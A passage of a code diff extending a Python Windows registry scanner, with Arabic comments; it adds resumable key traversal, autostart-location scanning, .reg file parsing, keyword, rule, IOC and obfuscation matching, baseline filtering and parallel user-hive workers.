+    def _obf_flush(self, out: List[Dict[str, Any]], counter: List[int]):
+        """يقيّم كل القيم المرشحة المؤجلة في استدعاء واحد ثم يطابق المفاتيح المؤجلة بترتيبها."""
+        pending, self._obf_pending, self._obf_pending_values = self._obf_pending, [], 0
+        if not pending:
+            return
+        blobs = [b for entry in pending for b in entry[7][1]]
+        binary = [f for entry in pending for f in entry[7][2]]
+        scores = iter(obfuscation_scores(blobs, binary) if blobs else ())
+        self.stats["obf_scored"] = self.stats.get("obf_scored", 0) + len(blobs)
+        for hive_const, subkey, values, kw_tokens, owner, state, last_mod, (names, _, _) in pending:
+            key_scores = dict(zip(names, itertools.islice(scores, len(names))))
+            for vname, vdata, vtype in values:
+                counter[0] += 1
+                if counter[0] % 200 == 0:
+                    self.progress.emit(counter[0])
+                if not self._want_type(vtype):
+                    continue
+                row = self._evaluate_value(hive_const, subkey, vname, vdata, vtype, kw_tokens, owner, state, last_mod,
+                                           key_scores.get(vname))
+                if row is not None:
+                    out.append(row)
+
+    def _scan_key_recursive(self, hive_const: int, subkey: str,
+                            kw_tokens: List[str],
+                            use_age: bool, days: int,
+                            out: List[Dict[str, Any]], counter: List[int],
+                            frontier: Optional[List[str]] = None):
+        """
+        عبور عمقي بمكدس صريح بدلاً من الاستدعاء الذاتي: المكدس هو "الحدود" المتبقية
+        ويُحفظ في نقطة الحفظ كما هو، فيُستأنف الفحص من حيث توقف.
+        """
+        stack = frontier if frontier is not None else [subkey]
+        self._cp_pos["hive"] = hive_const
+        self._cp_pos["frontier"] = stack
+        try:
+            while stack:
+                if self._stop: return
+                self._wait_if_paused()
+                if self._stop: return
+                current = stack.pop()
+                mark, count_mark = len(out), counter[0]
+                try:
+                    children = self._scan_single_key(hive_const, current, kw_tokens, use_age, days, out, counter)
+                except Exception:
+                    children = []
+                if self._stop:
+                    # مفتاح لم يكتمل: نُرجعه للحدود ونحذف نتائجه الجزئية لتجنّب التكرار عند الاستئناف
+                    del out[mark:]
+                    counter[0] = count_mark
+                    if self._obf_pending and self._obf_pending[-1][:2] == (hive_const, current):
+                        self._obf_pending_values -= len(self._obf_pending.pop()[7][1])
+                    stack.append(current)
+                    return
+                self._release_parent(hive_const, current)
+                if self._apply_budget(out, mark):
+                    return
+                # الإدراج بترتيب عكسي يحافظ على ترتيب العبور الأصلي (حسب فهرس EnumKey)
+                for name in reversed(children):
+                    stack.append(f"{current}\\{name}" if current else name)
+                # الدفعة تُفرَّغ قبل نقطة الحفظ: المفاتيح المؤجلة خرجت من الحدود ويجب أن تكون نتائجها في out
+                if self._obf_pending and (self._obf_pending_values >= OBF_BATCH_VALUES
+                                          or len(self._obf_pending) >= OBF_BATCH_KEYS
+                                          or time.monotonic() - self._cp_last >= CHECKPOINT_INTERVAL_SEC):
+                    self._obf_flush(out, counter)
+                self._maybe_checkpoint()
+                if self._governor:
+                    delay = self._governor.on_key()
+                    if delay:
+                        self.msleep(int(delay * 1000))
+        finally:
+            # المفاتيح المؤجلة قُرئت كاملة، فتُطابق حتى عند الإيقاف
+            self._obf_flush(out, counter)
+
+    def _apply_budget(self, out: List[Dict[str, Any]], mark: int) -> bool:
+        """
+        يحتسب مطابقات المفتاح الأخير ويُعيد True إن وجب التوقف عن النزول في الجذر الحالي.
+        _budget_hit يعني إيقاف الفحص كله (لا يُعد إيقافاً من المستخدم فلا تُكتب نقطة حفظ).
+        """
+        crit = self.crit
+        if not (crit.max_matches or crit.stop_on_first or self._top is not None):
+            return False
+        hits = 0
+        for i in range(mark, len(out)):
+            if not out[i].get("matched_any") or out[i].get("baseline"):
+                continue
+            hits += 1
+            if crit.max_matches and self._matches + hits >= crit.max_matches:
+                # اقتطاع ما بعد المطابقة التي بلغت الحد داخل المفتاح نفسه
+                del out[i + 1:]
+                self._budget_hit = True
+                break
+            if crit.stop_on_first:
+                del out[i + 1:]
+                break
+        self._matches += hits
+        self._root_matches += hits
+        if self._top is not None:
+            for row in out[mark:]:
+                if row.get("matched_any"):
+                    self._top.push(row)
+            del out[mark:]
+            if self._top.saturated():
+                self._budget_hit = True
+        if self._budget_hit:
+            self.stats["budget_hit"] = 1
+            return True
+        return bool(crit.stop_on_first and self._root_matches)
+
+    def _scan_asep(self, kw_tokens: List[str], out: List[Dict[str, Any]], counter: List[int]):
+        """
+        مسح موجّه لمواقع ASEP_CATALOG: كل مفتاح يُقرأ مباشرة (QueryValueEx للأسماء المحددة) دون نزول
+        إلى أبنائه. كل مدخل في الكتالوج يُعامل كجذر مستقل لحدود المطابقات.
+        """
+        for category, raw, names in ASEP_CATALOG:
+            if self._stop or self._budget_hit:
+                return
+            hive, pattern = parse_registry_path(raw)
+            if hive is None:
+                continue
+            self._root_matches = 0
+            for subkey in expand_asep_paths(hive, pattern):
+                if self._stop:
+                    return
+                mark = len(out)
+                self._scan_asep_key(hive, subkey, names, category, kw_tokens, out, counter)
+                if self._apply_budget(out, mark):
+                    break
+
+    def _scan_asep_key(self, hive_const: int, subkey: str, names: Optional[Tuple[str, ...]], category: str,
+                       kw_tokens: List[str], out: List[Dict[str, Any]], counter: List[int]):
+        self.stats["open_calls"] += 1
+        try:
+            k = winreg.OpenKey(hive_const, subkey, 0, winreg.KEY_READ)
+        except FileNotFoundError:
+            # أغلب المواقع الموسّعة (مثل Services\*\Parameters) غير موجودة: ليست فشلاً ولا تُسجَّل مرفوضة
+            return
+        except Exception:
+            self.stats["open_failed"] += 1
+            return
+        try:
+            self.stats["asep_keys"] = self.stats.get("asep_keys", 0) + 1
+            counter[0] += 1
+            try:
+                last_write_ft = winreg.QueryInfoKey(k)[2]
+            except Exception:
+                last_write_ft = None
+            if not self._age_is_recent(last_write_ft):
+                self.stats["age_pruned"] += 1
+                return
+            if names is None:
+                values = list(self._enum_values(k, None))
+            else:
+                values = []
+                for name in names:
+                    try:
+                        vdata, vtype = winreg.QueryValueEx(k, name)
+                    except Exception:
+                        continue
+                    values.append((name, vdata, vtype))
+            if not values:
+                return
+            owner = try_get_owner(hive_const, subkey)
+            if not self._owner_pass(owner):
+                return
+            last_write = filetime_to_datetime(last_write_ft) if last_write_ft else None
+            last_mod = last_write.strftime("%Y-%m-%d %H:%M:%S") if last_write else "N/A"
+            obf_scores = self._obf_stage(values) if self._obf else {}
+            for vname, vdata, vtype in values:
+                counter[0] += 1
+                if not self._want_type(vtype):
+                    continue
+                row = self._evaluate_value(hive_const, subkey, vname, vdata, vtype, kw_tokens, owner, tr("state_ok"), last_mod,
+                                           obf_scores.get(vname))
+                if row is not None:
+                    row["asep"] = category
+                    out.append(row)
+        finally:
+            try:
+                winreg.CloseKey(k)
+            except Exception:
+                pass
+
+    def _scan_reg_files(self, kw_tokens: List[str], out: List[Dict[str, Any]], counter: List[int]):
+        """
+        يفحص ملفات السجل النصية بالبث عبر iter_reg_file بنفس مطابقة الكلمات والقواعد. مفاتيح خارج الجذور
+        لا تُحلَّل قيمها. الملفات بلا مالكين، وتصدير regedit بلا أوقات تعديل: فلتر المالك لا يُطبّق،
+        وفلتر العمر يُطبّق فقط على المفاتيح ذات الوقت (ملفات Wine).
+        """
+        roots: List[Tuple[int, str]] = []
+        for raw in self.crit.keys:
+            hive, sub = parse_registry_path(str(raw))
+            if hive is not None:
+                roots.append((hive, sub.strip("\\").lower()))
+        done: Set[int] = set()
+
+        def root_of(hive: int, subkey: str) -> Optional[int]:
+            if not roots:
+                return 0
+            low = subkey.lower()
+            for i, (h, r) in enumerate(roots):
+                if h == hive and (not r or low == r or low.startswith(r + "\\")):
+                    return i
+            return None
+
+        def want(hive: int, subkey: str) -> bool:
+            i = root_of(hive, subkey)
+            return i is not None and i not in done
+
+        current_root = None
+        for path in self.crit.reg_files:
+            name = Path(path).name
+            for hive, subkey, ft, values in iter_reg_file(path, want):
+                if self._stop or self._budget_hit:
+                    return
+                self._wait_if_paused()
+                root = root_of(hive, subkey)
+                if root != current_root:
+                    current_root, self._root_matches = root, 0
+                self.stats["reg_keys"] = self.stats.get("reg_keys", 0) + 1
+                counter[0] += 1
+                if ft is not None and not self._age_is_recent(ft):
+                    self.stats["age_pruned"] += 1
+                    continue
+                last_write = filetime_to_datetime(ft) if ft else None
+                last_mod = last_write.strftime("%Y-%m-%d %H:%M:%S") if last_write else "N/A"
+                mark = len(out)
+                obf_scores = self._obf_stage(values) if self._obf else {}
+                for vname, vdata, vtype in values:
+                    counter[0] += 1
+                    if counter[0] % 200 == 0:
+                        self.progress.emit(counter[0])
+                    if not self._want_type(vtype):
+                        continue
+                    row = self._evaluate_value(hive, subkey, vname, vdata, vtype, kw_tokens, "N/A", tr("state_ok"), last_mod,
+                                               obf_scores.get(vname))
+                    if row is not None:
+                        row["reg_file"] = name
+                        out.append(row)
+                if self._apply_budget(out, mark):
+                    done.add(root)
+                    if self._budget_hit or (roots and len(done) == len(roots)) or not roots:
+                        return
+
+    def _open_key(self, hive_const: int, subkey: str) -> Tuple[Any, Optional[int]]:
+        """
+        يجرب أولاً علم الأب (أو العلم المحفوظ لأقرب بادئة)، ويفتح نسبةً لمقبض الأب إن كان مفتوحاً.
+        لا تُجرَّب الأعلام الأخرى إلا عند الفشل، ويُسجَّل المسار مرفوضاً إن فشلت كلها برفض الوصول
+        (المفتاح غير الموجود لا يُحفظ: قد يُنشأ قبل الفحص التالي).
+        """
+        parent_path, _, name = subkey.rpartition("\\")
+        parent = self._parents.get((hive_const, parent_path)) if name else None
+        if self._access.is_denied(hive_const, subkey, parent_known_ok=parent is not None):
+            self.stats["open_skipped"] += 1
+            return None, None
+        first = parent[2] if parent is not None else self._access.flag_for(hive_const, subkey)
+        denied = True
+        for flg in [first] + [f for f in self._access.flags if f != first]:
+            self.stats["open_calls"] += 1
+            try:
+                if parent is not None and parent[0] is not None and flg == parent[2]:
+                    h = winreg.OpenKey(parent[0], name, 0, flg)
+                else:
+                    h = winreg.OpenKey(hive_const, subkey, 0, flg)
+            except Exception as e:
+                self.stats["open_failed"] += 1
+                denied = denied and isinstance(e, PermissionError)
+                continue
+            if flg != first or parent is None:
+                self._access.remember(hive_const, subkey, flg)
+            return h, flg
+        if denied:
+            self._access.deny(hive_const, subkey)
+        return None, None
+
+    def _release_parent(self, hive_const: int, subkey: str):
+        if not subkey:
+            return
+        key = (hive_const, subkey.rpartition("\\")[0])
+        entry = self._parents.get(key)
+        if entry is None:
+            return
+        entry[1] -= 1
+        if entry[1] <= 0:
+            self._parents.pop(key, None)
+            if entry[0] is not None:
+                try:
+                    winreg.CloseKey(entry[0])
+                except Exception:
+                    pass
+
+    def _close_parent_handles(self):
+        for entry in self._parents.values():
+            if entry[0] is not None:
+                try:
+                    winreg.CloseKey(entry[0])
+                except Exception:
+                    pass
+        self._parents.clear()
+
+    def _snapshot_entry(self, hive_const: int, subkey: str) -> Optional[List[Any]]:
+        if self._snapshot is None:
+            return None
+        entry = self._snapshot.get(hive_const, subkey)
+        if entry is None or entry[3] is None:
+            return None
+        if entry[2] is None and self._age_is_recent(entry[0]):
+            # قيم لم يقرأها العبور السابق (كان المفتاح خارج نافذته) ويحتاجها هذا الفحص
+            return None
+        return entry
+
+    @staticmethod
+    def _enum_values(opened, captured: Optional[List[Tuple[str, Any, int]]]):
+        idx = 0
+        while True:
+            try:
+                item = winreg.EnumValue(opened, idx)
+            except Exception:
+                return
+            idx += 1
+            if captured is not None:
+                captured.append(item)
+            yield item
+
+    def _evaluate_value(self, hive_const: int, subkey: str, vname: str, vdata: Any, vtype: int,
+                        kw_tokens: List[str], owner: str, state: str, last_mod: str,
+                        obf: Optional[int] = None) -> Optional[Dict[str, Any]]:
+        """
+        يطابق قيمة واحدة بالكلمات والقواعد ويُعيد صف النتيجة، أو None إن لم تُدرج حسب display_mode.
+        obf: درجة التمويه المحسوبة مسبقاً في _obf_stage لقيم المفتاح (None = لم تُقيَّم).
+        """
+        # REG_BINARY يُطابق على البايتات الخام ولا يُحوَّل لنص إلا إن أُدرج السجل للعرض
+        raw_bin = bytes(vdata) if vtype == winreg.REG_BINARY and isinstance(vdata, (bytes, bytearray)) else None
+        vtext = "" if raw_bin is not None else reg_value_to_text(vdata, vtype)
+        # فك UTF-16LE للقيمة الثنائية مرة واحدة على الأكثر تشاركه الخلاصات وكل شروط Regex
+        wide = Utf16Views(raw_bin) if raw_bin is not None else None
+        reasons = []
+        matched_kw = ""
+        matched_rule = ""
+        matched_level = ""
+        matched_any = False
+
+        filters_active = any([
+            (self.crit.mode_keywords and kw_tokens),
+            (self.crit.mode_rules and self.rules),
+            self._ioc is not None,
+            self._obf,
+        ])
+        memo_key = MatchMemo.key(vtype, vname or "", raw_bin if raw_bin is not None else vtext) if filters_active else None
+        cached = self._memo.get(memo_key) if filters_active else None
+        if cached is not None:
+            matched_kw, matched_rule, matched_level, hit_reasons = cached
+            reasons = list(hit_reasons)
+            matched_any = bool(matched_kw or matched_rule)
+
+        # أوضاع الفحص
+        if cached is None and self.crit.mode_keywords and kw_tokens:
+            if raw_bin is not None:
+                hit_kw = exact_token_present(vname or "", kw_tokens) or self._kw_bytes.search(raw_bin)
+            else:
+                hit_kw = self._match_value_keywords(vname or "", vtext, kw_tokens)
+            if hit_kw:
+                matched_kw = hit_kw
+                reasons.append(tr("reason_kw"))
+                matched_any = True
+
+        if cached is None and self._ioc is not None and not matched_kw:
+            # مؤشرات الخلاصات تُعامل ككلمات: المؤشر يظهر في عمود الكلمة المطابقة
+            hit = (self._ioc.match(vtext) if raw_bin is None else self._ioc.match_bytes(raw_bin, wide)) or self._ioc.match(vname or "")
+            if hit:
+                kind, indicator, feed = hit
+                matched_kw = indicator
+                reasons.append(f"{tr('reason_ioc')}: {kind} ({feed})")
+                matched_any = True
+
+        # الأدلة تُستخرج مرة واحدة للقيمة النصية وتُشارك بين شروط القواعد وصف النتيجة
+        artifacts: Optional[Dict[str, Tuple[str, ...]]] = None
+        if cached is None and self.crit.mode_rules and self.rules:
+            if self._rule_art_preds and vtype in ARTIFACT_TEXT_TYPES:
+                artifacts = self._artifacts(vtext)
+            # اختبار سريع أولاً
+            fast = self._fast_rule_match(vname or "", vtext, raw_bin, artifacts, wide)
+            sig_hits = self._sig_matcher.scan(raw_bin) if raw_bin is not None and self._sig_matcher else {}
+            if fast or sig_hits:
+                # تحديد أول RuleSpec مطابق لإرجاع عنوان القاعدة
+                for i, spec in enumerate(self.rules):
+                    if i in sig_hits:
+                        matched_rule = spec.title
+                        matched_level = spec.level
+                        reasons.append(f"{tr('reason_rule')}: {spec.title} @0x{sig_hits[i]:X}")
+                        matched_any = True
+                        break
+                    if not fast:
+                        continue
+                    try:
+                        if evaluate_rule_predicates(vname or "", vtext, spec, raw_bin, artifacts, wide):
+                            matched_rule = spec.title
+                            matched_level = spec.level
+                            reasons.append(f"{tr('reason_rule')}: {spec.title}")
+                            matched_any = True
+                            break
+                    except Exception:
+                        continue
+        if cached is None and filters_active:
+            self._memo.put(memo_key, (matched_kw, matched_rule, matched_level, tuple(reasons)))
+
+        if obf is not None and obf >= self.crit.obf_threshold:
+            self.stats["obf_hits"] = self.stats.get("obf_hits", 0) + 1
+            reasons.append(f"{tr('reason_obf')}: {obf}")
+            matched_any = True
+
+        # خط الأساس: يُختبر للمطابقات فقط، فالقيم غير المطابقة لا تدفع كلفة التجزئة
+        in_baseline = False
+        if matched_any and self._baseline is not None:
+            btext = reg_value_to_text(vdata, vtype) if raw_bin is not None else vtext
+            if baseline_fingerprint(self._full_key_path(hive_const, subkey), vname or "", btext) in self._baseline:
+                self.stats["baseline_hits"] = self.stats.get("baseline_hits", 0) + 1
+                reasons.append(tr("reason_baseline"))
+                if self.crit.baseline_mode == "demote":
+                    in_baseline = True
+                else:
+                    matched_any = False
+
+        # اقتصار الأسباب على كلمة/قاعدة فقط: لا نضيف النوع/العمر/المالك كأسباب
+        # العمر والمالك طُبّقا مسبقاً على مستوى المفتاح؛ هنا يُحدد display_mode إدراج القيم غير المطابقة
+        include = True
+        if self.crit.display_mode == "matched" and filters_active:
+            include = matched_any
+
+        if not include:
+            return None
+        if raw_bin is not None:
+            vtext = reg_value_to_text(vdata, vtype)
+        if artifacts is None and vtype in ARTIFACT_TEXT_TYPES:
+            artifacts = self._artifacts(vtext)
+        row = {
+            "key": self._full_key_path(hive_const, subkey),
+            "value_name": vname,
+            "value_str": vtext,
+            "matched_kw": matched_kw,
+            "value_type": reg_type_name(vtype),
+            "last_mod": last_mod,
+            "owner": owner,
+            "state": state,
+            "matched_rule": matched_rule,
+            "rule_level": matched_level,
+            "reasons": reasons,
+            "matched_any": matched_any,
+            "baseline": in_baseline,
+            "artifacts": artifacts or {},
+            "user": self._row_user(hive_const, subkey),
+            "hive_const": hive_const,
+            "subkey": subkey,
+            "value_type_raw": vtype,
+        }
+        if obf is not None:
+            row["obf_score"] = obf
+        return row
+
+    def _row_user(self, hive_const: int, subkey: str) -> str:
+        if hive_const == winreg.HKEY_CURRENT_USER:
+            return "" if self.crit.reg_files else (self._current_user_cached or "")
+        sid = user_hive_sid(hive_const, subkey)
+        return account_for_sid(sid) if sid else ""
+
+    def _spawn_worker(self) -> "RegistryScannerThread":
+        # top_n يُطبّق عند الأب على النتائج المدموجة؛ اللقطة ومطابِق التواقيع مشتركان للقراءة فقط
+        w = RegistryScannerThread(replace(self.crit, top_n=0), rules=self.rules, meta=self.meta)
+        w._worker = True
+        w._lock = self._lock
+        w._snapshot = self._snapshot
+        w._sig_matcher = self._sig_matcher
+        w._baseline = self._baseline
+        w._ioc = self._ioc
+        w._current_user_cached = self._current_user_cached
+        w._paused = self._paused
+        return w
+
+    @staticmethod
+    def _run_worker_unit(w: "RegistryScannerThread", unit: ScanUnit, kw_tokens: List[str],
+                         use_age: bool, days: int, frontier: Optional[List[str]] = None) -> List[Dict[str, Any]]:
+        out: List[Dict[str, Any]] = []
+        w._out_ref, w._counter_ref = out, [0]
+        try:
+            w._scan_key_recursive(unit.hive, unit.subkey, kw_tokens, use_age, days, out, w._counter_ref, frontier=frontier)
+        finally:
+            w._close_parent_handles()
+        return out
+
+    def _merge_unit_rows(self, rows: List[Dict[str, Any]], count: int, out: Any, counter: List[int]):
+        """يدمج نتائج وحدة (أو ما سُحب منها حتى حدودها الحالية) ويحتسب حدود المطابقات عليها."""
+        mark = len(out)
+        out.extend(rows)
+        counter[0] += count
+        if self._apply_budget(out, mark) and self._budget_hit:
+            self.stop_workers()
+
+    def _drain_parked(self, running: Dict[Any, Tuple[int, "RegistryScannerThread"]], pending: Set[Any],
+                      out: Any, counter: List[int]) -> bool:
+        """
+        يسحب من كل عامل متوقف مؤقتاً نتائجه وعدّاده وحدوده الحالية إلى الأب، فتشمل نقطة الحفظ تقدّم
+        الوحدات الجارية. يُعيد False ما دام عامل جارٍ لم يبلغ نقطة التوقف بعد.
+        """
+        live = [(running[f][0], running[f][1]) for f in pending if not f.done()]
+        if not all(w._parked for _, w in live):
+            return False
+        for i, w in live:
+            with self._lock:
+                if not w._parked:
+                    return False
+                rows, count = list(w._out_ref), w._counter_ref[0]
+                del w._out_ref[:]
+                w._counter_ref[0] = 0
+                frontier = list(w._cp_pos.get("frontier") or [])
+            self._unit_frontiers[i] = frontier
+            self._merge_unit_rows(rows, count, out, counter)
+        return True
+
+    def _scan_units_parallel(self, indices: List[int], kw_tokens: List[str], use_age: bool, days: int,
+                             out: Any, counter: List[int]):
+        """
+        يفحص وحدات خلايا المستخدمين بعمّال مستقلين، ويدمج كل وحدة عند اكتمالها في هذا الخيط فقط
+        (الحدود والعدادات ونقطة الحفظ لا تُلمس من العمّال). عند الإيقاف أو الإيقاف المؤقت تُدمج نتائج
+        الوحدات الجارية حتى حدودها، وتُحفظ الحدود في unit_frontiers فيُستأنف كل عامل من حيث توقف.
+        """
+        units = self.plan.units
+        running: Dict[Any, Tuple[int, RegistryScannerThread]] = {}
+        with ThreadPoolExecutor(max_workers=max(1, min(USER_HIVE_WORKERS, len(indices)))) as pool:
+            for i in indices:
+                w = self._spawn_worker()
+                self._workers.append(w)
+                frontier = self._unit_frontiers.get(i)
+                running[pool.submit(self._run_worker_unit, w, units[i], kw_tokens, use_age, days,
+                                    list(frontier) if frontier else None)] = (i, w)
+            pending = set(running)
+            while pending:
+                finished, pending = wait(pending, timeout=0.2, return_when=FIRST_COMPLETED)
+                for fut in finished:
+                    i, w = running[fut]
+                    try:
+                        rows = fut.result()
+                    except Exception:
+                        rows = []
+                    if w._stop and not self._stop:
+                        # أُوقف بسبب حد المطابقات: لا نقطة حفظ، والنتائج الزائدة تُهمل
+                        continue
+                    for k, v in w.stats.items():
+                        self.stats[k] = self.stats.get(k, 0) + v
+                    self._memo.hits += w._memo.hits
+                    self._memo.lookups += w._memo.lookups
+                    frontier = list(w._cp_pos.get("frontier") or []) if w._stop else []
+                    if frontier:
+                        self._unit_frontiers[i] = frontier
+                    else:
+                        self._unit_frontiers.pop(i, None)
+                        self._units_done.add(i)
+                    self._root_matches = 0
+                    self._merge_unit_rows(rows, w._counter_ref[0], out, counter)
+                live = sum(w._counter_ref[0] for f, (_, w) in running.items() if f in pending)
+                self.progress.emit(counter[0] + live)
+                if self._paused:
+                    # نقطة الحفظ تُكتب بعد أن يتوقف كل عامل جارٍ وتُسحب نتائجه حتى حدوده
+                    if self._stop or self._drain_parked(running, pending, out, counter):
+                        self._wait_if_paused()
+                else:
+                    self._maybe_checkpoint()
+        self._workers = []
+        self.stats["user_units"] = self.stats.get("user_units", 0) + len(indices)
+
+    def stop_workers(self):
+        for w in list(self._workers):
+            w.stop()
+
+    def _scan_single_key(self, hive_const: int, subkey: str,
+                         kw_tokens: List[str],
+                         use_age: bool, days: int,
+                         out: List[Dict[str, Any]], counter: List[int]) -> List[str]:
+        last_write = None
+        last_write_ft = None
+        state = tr("state_denied")
+        opened = flag = None
+        # مفتاح قرأه عبور حديث للتبويب الآخر: لا فتح ولا تعداد، تُقيَّم قيمه المحفوظة مباشرة
+        entry = self._snapshot_entry(hive_const, subkey)
+        if entry is not None:
+            last_write_ft = entry[0]
+            state = tr("state_ok")
+            self.stats["snapshot_hits"] += 1
+        else:
+            opened, flag = self._open_key(hive_const, subkey)
+            if opened is not None:
+                try:
+                    info = winreg.QueryInfoKey(opened)
+                    last_write_ft = info[2] if len(info) >= 3 else None
+                    state = tr("state_ok")
+                except Exception:
+                    try:
+                        winreg.CloseKey(opened)
+                    except Exception:
+                        pass
+                    opened = None
+
+            if opened is None:
+                counter[0] += 1
+                if counter[0] % 50 == 0:
+                    self.progress.emit(counter[0])
+                return []
+
+        # فلترة العمر على مستوى المفتاح: مفتاح أقدم من النافذة لا تُقرأ قيمه ولا يُستعلم مالكه،
+        # لكن يُنزل إلى أبنائه لأن تعديل قيمة في ابن لا يُحدّث وقت كتابة الأب
+        recent = self._age_is_recent(last_write_ft)
+        owner = None
+        if recent:
+            owner = entry[1] if entry is not None and entry[1] is not None else try_get_owner(hive_const, subkey)
+            if entry is not None:
+                entry[1] = owner
+            if not self._owner_pass(owner):
+                # فلترة المالك شرط أساسي: نتجاهل المفتاح كاملاً
+                if opened is not None:
+                    try:
+                        winreg.CloseKey(opened)
+                    except Exception:
+                        pass
+                return []
+            last_write = filetime_to_datetime(last_write_ft) if last_write_ft else None
+            last_mod = last_write.strftime("%Y-%m-%d %H:%M:%S") if last_write else "N/A"
+        else:
+            self.stats["age_pruned"] += 1
+            counter[0] += 1
+            if counter[0] % 50 == 0:
+                self.progress.emit(counter[0])
+
+        captured: Optional[List[Tuple[str, Any, int]]] = None
+        if entry is not None:
+            values = iter(entry[2] or ())
+        else:
+            captured = [] if self._snapshot is not None and recent else None
+            values = self._enum_values(opened, captured)
+        # مرحلة التمويه تحتاج قيم المفتاح كاملة: تُؤجَّل إلى الدفعة المشتركة أو تُقيَّم دفعةً بحجم المفتاح
+        obf_scores: Dict[str, int] = {}
+        if self._obf and recent:
+            batch = list(values)
+            if not self._stop and self._obf_queue(hive_const, subkey, batch, kw_tokens, owner, state, last_mod):
+                batch = []
+            else:
+                obf_scores = self._obf_stage(batch)
+            values = iter(batch)
+        values_done = not recent
+        try:
+            while recent:
+                if self._stop: break
+                try:
+                    vname, vdata, vtype = next(values)
+                except StopIteration:
+                    values_done = True
+                    break
+                counter[0] += 1
+                if counter[0] % 200 == 0:
+                    self.progress.emit(counter[0])
+
+                if not self._want_type(vtype):
+                    continue
+
+                row = self._evaluate_value(hive_const, subkey, vname, vdata, vtype, kw_tokens, owner, state, last_mod,
+                                           obf_scores.get(vname))
+                if row is not None:
+                    out.append(row)
+        except Exception:
+            pass
+
+        if entry is not None:
+            return [] if self._stop else list(entry[3])
+
+        try:
+            sub_count = winreg.QueryInfoKey(opened)[0]
+        except Exception:
+            sub_count = 0
+
+        children: List[str] = []
+        for i in range(sub_count):
+            if self._stop: break
+            try:
+                children.append(winreg.EnumKey(opened, i))
+            except Exception:
+                continue
+
+        if self._snapshot is not None and not self._stop:
+            self._snapshot.put(hive_const, subkey, last_write_ft, owner,
+                               captured if values_done and recent else None, children)
+
+        if children and not self._stop:
+            # يبقى مقبض الأب مفتوحاً حتى يُعالج آخر أبنائه (عمق العبور يحدّ عدد المقابض المفتوحة)
+            keep = self.crit.open_relative
+            self._parents[(hive_const, subkey)] = [opened if keep else None, len(children), flag]
+            if keep:
+                return children
+        try:
+            winreg.CloseKey(opened)
+        except Exception:
+            pass
+        return children
+
+    def run(self):
+        try:
+            crit = self.crit
             kw_tokens = self._kw_tokens
             use_age = crit.use_age
             days = int(crit.days or 0)
 
             active = any([
                 crit.keys,
+                crit.asep,
+                crit.reg_files,
                 (crit.mode_keywords and kw_tokens),
                 (crit.mode_rules and self.rules),
+                crit.ioc_feeds,
+                self._obf,
                 (use_age and days > 0),
                 (crit.value_type.lower() != "all"),
                 (crit.owner_filter.lower() != "all"),
@@ -900,20 +5679,106 @@ class RegistryScannerThread(QThread):
                 self.finished.emit([], 0)
                 return
 
-            results: List[Dict[str, Any]] = []
-            counter = [0]
-            for raw in crit.keys:
-                if self._stop: break
-                if not raw or not str(raw).strip():
-                    continue
-                hive, sub = parse_registry_path(str(raw))
-                if hive is None:
-                    continue
-                self._scan_key_recursive(hive, sub, kw_tokens, use_age, days, results, counter)
-
+            if self._governor:
+                self.setPriority(QThread.IdlePriority)
+                set_background_priority(True)
+
+            self._baseline = open_baseline(crit.baseline)
+            self._ioc = IocMatcher(crit.ioc_feeds) if crit.ioc_feeds else None
+            # اللقطة تخص السجل الحي فلا تُحجز لفحص الملفات
+            self._snapshot = None if crit.reg_files else acquire_snapshot(self.meta.get("tab", ""), self.snapshot_ttl)
+            resume = self._resume_state
+            if resume is None:
+                # فحص جديد يُلغي أي نقطة حفظ سابقة
+                clear_scan_checkpoint()
+            # عرض "الكل" قد يشمل كل قيم الشجرة: تُفرّغ النتائج إلى القرص بدل إبقائها في الذاكرة
+            results: Any = ResultStore() if crit.display_mode == "all" and self._top is None else []
+            results.extend(iter_checkpoint_rows(self._resume_count))
+            if resume is not None and "matches" not in resume:
+                self._matches = count_matched(results)
+            counter = [int(resume.get("counter", 0)) if resume else 0]
+            self._out_ref = results
+            self._counter_ref = counter
+            if crit.reg_files:
+                self._scan_reg_files(kw_tokens, results, counter)
+            elif crit.asep:
+                # مسح ASEP يستغرق أقل من ثانية: لا خطة ولا استئناف من منتصفه
+                self._scan_asep(kw_tokens, results, counter)
+            else:
+                # الخلايا غير المتصلة تُحمّل قبل التوزيع (وتُعاد عند الاستئناف لأن الخطة تشير إلى أسمائها)
+                if crit.offline_hives:
+                    self._offline = OfflineUserHives()
+                    self.stats["offline_mounted"] = len(self._offline.mount())
+                    self.stats["offline_failed"] = self._offline.failed
+                # الخطة المحفوظة في نقطة الحفظ تُستخدم كما هي لأن root_index يشير إلى ترتيبها
+                if resume is not None and resume.get("plan") is not None:
+                    self.plan = ScanPlan.from_state(resume.get("plan"))
+                else:
+                    if self.plan is None:
+                        self.plan = build_scan_plan(crit.keys)
+                    self.plan = fan_out_user_hives(self.plan)
+                units = self.plan.units
+                start_index = int(resume.get("root_index", 0)) if resume else 0
+                # وضع الأثر المنخفض يبقى تسلسلياً كي يضبط المنظّم معدّل خيط واحد
+                parallel = not self._governor and USER_HIVE_WORKERS > 1
+                root_index = start_index
+                while root_index < len(units):
+                    if self._stop or self._budget_hit: break
+                    unit = units[root_index]
+                    frontier = None
+                    if resume is not None and root_index == start_index and resume.get("frontier") is not None:
+                        frontier = list(resume.get("frontier") or [])
+                    if parallel and unit.user and frontier is None:
+                        end = root_index
+                        while end < len(units) and units[end].user:
+                            end += 1
+                        todo = [i for i in range(root_index, end) if i not in self._units_done]
+                        if len(todo) > 1:
+                            self._cp_pos = {"root_index": root_index, "hive": None, "frontier": None}
+                            self._scan_units_parallel(todo, kw_tokens, use_age, days, results, counter)
+                            if not self._stop and not self._budget_hit:
+                                self._units_done.clear()
+                                root_index = end
+                            continue
+                    if root_index in self._units_done:
+                        root_index += 1
+                        continue
+                    if frontier is None:
+                        # وحدة أوقفها عامل في منتصفها ثم بقيت وحدها: تُكمل تسلسلياً من حدودها
+                        frontier = self._unit_frontiers.pop(root_index, None)
+                    self._cp_pos = {"root_index": root_index, "hive": None, "frontier": None}
+                    if frontier is None:
+                        self._root_matches = 0
+                    self._scan_key_recursive(unit.hive, unit.subkey, kw_tokens, use_age, days, results, counter, frontier=frontier)
+                    if not self._stop and not self._budget_hit:
+                        root_index += 1
+
+            if self._stop and not crit.asep:
+                self._write_checkpoint()
+            else:
+                clear_scan_checkpoint()
+            if self._top is not None:
+                results = self._top.rows()
+            elif isinstance(results, ResultStore):
+                results.flush()
+            if self.history and not self._stop:
+                self._record_history(results, counter[0])
+            self.stats["memo_hits"], self.stats["memo_lookups"] = self._memo.hits, self._memo.lookups
+            routes = self.meta.get("routes")
+            if routes:
